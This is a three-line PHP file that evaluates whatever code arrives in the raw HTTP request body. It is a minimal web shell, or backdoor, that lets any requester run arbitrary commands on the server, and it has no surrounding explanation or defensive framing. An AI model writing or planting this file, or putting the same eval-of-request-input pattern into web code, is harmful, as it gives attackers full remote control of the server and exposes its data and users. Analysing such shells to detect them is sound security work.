<?php
header('Content-Type: text/plain');
eval(file_get_contents('php://input'));
